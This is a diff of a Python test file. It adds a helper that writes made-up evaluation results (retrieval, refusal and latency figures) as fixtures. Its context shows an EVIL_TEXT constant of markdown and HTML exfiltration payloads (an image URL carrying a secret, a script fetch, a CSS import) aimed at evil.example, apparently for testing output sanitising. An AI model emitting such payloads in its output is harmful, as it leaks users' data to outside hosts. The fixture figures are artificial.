@@ -162,6 +162,28 @@ def write_index(index_dir: Path, name: str = "v1") -> None:
     (index_dir / "CURRENT").write_text(name + "\n", encoding="utf-8")
 
 
+def write_results(folder: Path) -> None:
+    """Three evaluations, as `python -m evals run` leaves them."""
+    folder.mkdir(parents=True)
+    runs = [
+        {
+            "name": "own",
+            "split": "dev",
+            "created": f"2026-01-0{day}T03:04:05+00:00",
+            "version": f"v{day}",
+            "measures": {"R@1": found - 0.2, "R@5": found, "RR@10": found - 0.1},
+            "intervals": {"R@5": [found - 0.1, found + 0.1]},
+            "n": {"measured": 96},
+            "refusal": {"auc": 0.95, "unanswerable_refused": 0.8, "answerable_refused": 0.05},
+            "latency_ms": {"p50": 4.2, "p95": 9.0},
+            "per_kind": {"fact": {"n": 40, "measures": {"R@5": found, "RR@10": 0.8}}},
+        }
+        for day, found in enumerate((0.7, 0.75, 0.8), start=1)
+    ]
+    (folder / "history.jsonl").write_text("".join(f"{json.dumps(run)}\n" for run in runs), encoding="utf-8")
+    (folder / "own-dev.json").write_text(json.dumps(runs[-1]), encoding="utf-8")
+
+
 EVIL_TEXT = """![leak](https://evil.example/?q=secret) <img src="https://evil.example/x"> [1]
 
 <script>fetch("https://evil.example/y")</script> [follow](https://evil.example/z) <style>@import "https://evil.example/s"</style>
